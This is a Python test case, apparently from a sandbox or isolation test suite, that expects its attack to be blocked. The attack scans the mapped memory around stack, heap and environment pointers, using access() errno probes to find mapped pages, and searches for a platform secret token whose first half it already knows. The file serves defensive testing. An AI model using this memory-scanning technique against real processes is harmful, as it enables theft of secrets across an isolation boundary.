# Searches all memory around it for a secret of the platform's process, whose first half it knows.
# expect: BLOCKED
# layers: zygote

import ctypes
import hashlib
import re

from attack import TARGET, Attack, Denied, libc

PAGE = 4096
HALF = TARGET["half_token"].encode()


def is_mapped(address: int) -> bool:
    """The kernel says whether it can read a path there: EFAULT where nothing is."""
    ctypes.set_errno(0)
    libc.access(ctypes.c_void_p(address), 0)
    return ctypes.get_errno() != 14


def around(address: int) -> tuple[int, int]:
    """The mapped pages that hold an address."""
    first = last = address & ~(PAGE - 1)
    while is_mapped(first - PAGE) and address - first < 1 << 28:
        first -= PAGE
    while is_mapped(last + PAGE) and last - address < 1 << 28:
        last += PAGE
    return first, last + PAGE


class Bot(Attack):
    def attack(self) -> str:
        libc.malloc.restype = ctypes.c_void_p
        environment = ctypes.c_void_p.in_dll(ctypes.CDLL(None), "environ").value or 0
        on_stack = ctypes.c_void_p.from_address(environment).value or 0  # where the kernel put the texts
        anchors = [id(self), id([]), id(TARGET), libc.malloc(100), libc.malloc(1 << 20), environment, on_stack]
        searched = 0
        for anchor in anchors:
            first, end = around(anchor)
            searched += end - first
            pages = (ctypes.c_char * (end - first)).from_address(first)  # in place: a copy may be too large
            for match in re.finditer(re.escape(HALF) + rb"[0-9a-f]+", pages):
                if hashlib.sha256(match[0]).hexdigest() == TARGET["token_hash"]:
                    return f"the secret at {first + match.start():x}"
        raise Denied(f"not in {searched} bytes")
